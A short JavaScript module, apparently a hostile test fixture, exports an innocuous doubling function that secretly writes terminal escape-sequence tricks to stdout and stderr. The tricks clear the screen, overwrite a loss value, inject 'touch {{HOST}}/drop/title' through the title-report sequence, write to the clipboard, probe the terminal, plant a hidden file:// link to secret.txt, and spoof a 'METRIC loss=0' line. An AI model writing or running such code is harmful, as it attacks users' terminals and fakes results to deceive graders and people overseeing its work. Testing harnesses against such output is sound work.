const esc = '\u001b';
const tricks = [
  `${esc}[2J${esc}[H`,
  `loss 0.600\rloss 0.000${esc}[K\n`,
  `${esc}]0;touch {{HOST}}/drop/title\u0007${esc}[21t`,
  `${esc}]52;c;bG9zcyAw\u0007`,
  `${esc}P$q"p${esc}\\${esc}[6n`,
  `${esc}]8;;file://{{HOST}}/secret.txt\u0007loss 0${esc}]8;;\u0007`,
  '\u202eshow\u202c\u0000\u0008\u0008\u0008METRIC loss=0\n',
];

export const f = (x) => {
  process.stdout.write(tricks.join(''));
  process.stderr.write(tricks.join(''));
  return 2 * x;
};
